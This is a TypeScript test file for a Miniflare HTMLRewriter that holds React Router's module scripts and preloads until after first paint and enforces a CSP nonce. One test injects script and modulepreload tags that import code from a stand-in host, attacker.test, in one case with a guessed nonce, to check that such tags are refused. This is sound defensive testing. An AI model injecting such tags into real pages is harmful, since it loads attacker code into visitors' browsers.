// The module preloads and module script React Router writes are held until after the first paint, in workerd's
// HTMLRewriter (Miniflare); the browser side (the scripts do start, after the paint) is in tests/e2e/critical-path.
import type { Miniflare } from "miniflare";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startHarness } from "./cache/miniflare-harness";
import {
  HELD_MODULE_TYPE,
  HELD_PRELOAD_REL,
  REFUSED_MODULE_TYPE,
  REFUSED_PRELOAD_REL,
  START_AFTER_PAINT,
} from "./scripts-after-first-paint";

let mf: Miniflare;

/** A page shaped like React Router's (this reply's nonce is n1): the boot script, module preloads, the context and
 * module scripts. */
const ROUTER_PAGE =
  `<!DOCTYPE html><html><head><script id="boot-script" nonce="n1">document.documentElement.dataset.theme="light"</script>` +
  `<link rel="modulepreload" href="/assets/manifest.js" nonce="n1"/><link rel="modulepreload" href="/assets/entry.js" nonce="n1"/>` +
  `<link rel="icon" href="/favicon.svg"/></head><body><h1>書</h1>` +
  `<script type="application/ld+json">{"@type":"Book"}</script>` +
  `<script nonce="n1">window.__reactRouterContext={}</script>` +
  `<script nonce="n1" type="module" async="">import "/assets/manifest.js";\nimport("/assets/entry.js");</script>` +
  `<script nonce="n1">window.__reactRouterContext.streamController.enqueue("x")</script></body></html>`;

beforeAll(async () => {
  mf = await startHarness(new URL("./scripts-after-first-paint.harness.ts", import.meta.url), "scripts-harness");
}, 60_000);

afterAll(async () => {
  await mf?.dispose();
});

const page = async ({ type, nonce, html = ROUTER_PAGE }: { type?: string; nonce?: string; html?: string } = {}) => {
  const params = new URLSearchParams();
  if (type) params.set("type", type);
  if (nonce !== undefined) params.set("nonce", nonce);
  const res = await mf.dispatchFetch(`http://shop.test/?${params}`, { method: "POST", body: html });
  return { body: await res.text(), length: res.headers.get("Content-Length") };
};

describe("scripts after the first paint", () => {
  it("holds every module preload and the module script, and puts the starter right after it with its nonce", async () => {
    const { body } = await page();
    expect(body).not.toMatch(/<link[^>]*rel="modulepreload"/);
    expect(body).not.toMatch(/<script[^>]*type="module"/);
    expect(body.match(new RegExp(`<link rel="${HELD_PRELOAD_REL}"`, "g"))).toHaveLength(2);
    expect(body).toContain('<link rel="icon" href="/favicon.svg"/>');
    expect(body).toContain(
      `<script nonce="n1" type="${HELD_MODULE_TYPE}" async="">import "/assets/manifest.js";\nimport("/assets/entry.js");</script>` +
        `<script nonce="n1">${START_AFTER_PAINT}</script>` +
        `<script nonce="n1">window.__reactRouterContext.streamController.enqueue("x")</script>`,
    );
    expect(body.split(START_AFTER_PAINT)).toHaveLength(2);
  });

  it("writes a starter that is valid JavaScript", () => {
    expect(() => new Function(START_AFTER_PAINT)).not.toThrow();
  });

  it("leaves the page's own scripts alone", async () => {
    const { body } = await page();
    expect(body).toContain(
      `<script id="boot-script" nonce="n1">document.documentElement.dataset.theme="light"</script>`,
    );
    expect(body).toContain(`<script type="application/ld+json">{"@type":"Book"}</script>`);
    expect(body).toContain(`<script nonce="n1">window.__reactRouterContext={}</script>`);
  });

  it("passes anything that is not HTML through untouched", async () => {
    const { body } = await page({ type: "application/json" });
    expect(body).toBe(ROUTER_PAGE);
  });

  it("holds for good a module script or preload without this reply's nonce, and writes no starter after it", async () => {
    const injected =
      `<script type="module">import("https://attacker.test/a.js")</script>` +
      `<link rel="modulepreload" href="https://attacker.test/b.js"/>` +
      `<script type="module" nonce="guessed">import("https://attacker.test/c.js")</script>`;
    const { body } = await page({ html: ROUTER_PAGE.replace("<h1>書</h1>", `<h1>書</h1>${injected}`) });
    expect(body).toContain(
      `<script type="${REFUSED_MODULE_TYPE}">import("https://attacker.test/a.js")</script>` +
        `<link rel="${REFUSED_PRELOAD_REL}" href="https://attacker.test/b.js" />` +
        `<script type="${REFUSED_MODULE_TYPE}" nonce="guessed">import("https://attacker.test/c.js")</script>`,
    );
    // The page's own are held to be restored, with one starter, after the page's module script.
    expect(body.match(new RegExp(`<link rel="${HELD_PRELOAD_REL}"`, "g"))).toHaveLength(2);
    expect(body.split(START_AFTER_PAINT)).toHaveLength(2);
    expect(body).toContain(`import("/assets/entry.js");</script><script nonce="n1">${START_AFTER_PAINT}</script>`);
  });

  it("holds the page's scripts only when they carry this reply's nonce", async () => {
    const { body } = await page({ nonce: "n2" });
    expect(body).not.toContain(HELD_MODULE_TYPE);
    expect(body).not.toContain(`rel="${HELD_PRELOAD_REL}"`);
    expect(body).not.toContain(START_AFTER_PAINT);
  });

  it("writes one starter however many module scripts carry the nonce", async () => {
    const second = `<script nonce="n1" type="module">import("/assets/other.js")</script>`;
    const { body } = await page({ html: ROUTER_PAGE.replace("</body>", `${second}</body>`) });
    expect(body.match(new RegExp(`<script nonce="n1" type="${HELD_MODULE_TYPE}"`, "g"))).toHaveLength(2);
    expect(body.split(START_AFTER_PAINT)).toHaveLength(2);
  });

  it("leaves a reply without a nonce (no CSP: the Vite dev server) as it is", async () => {
    const { body } = await page({ nonce: "" });
    expect(body).toBe(ROUTER_PAGE);
  });
});
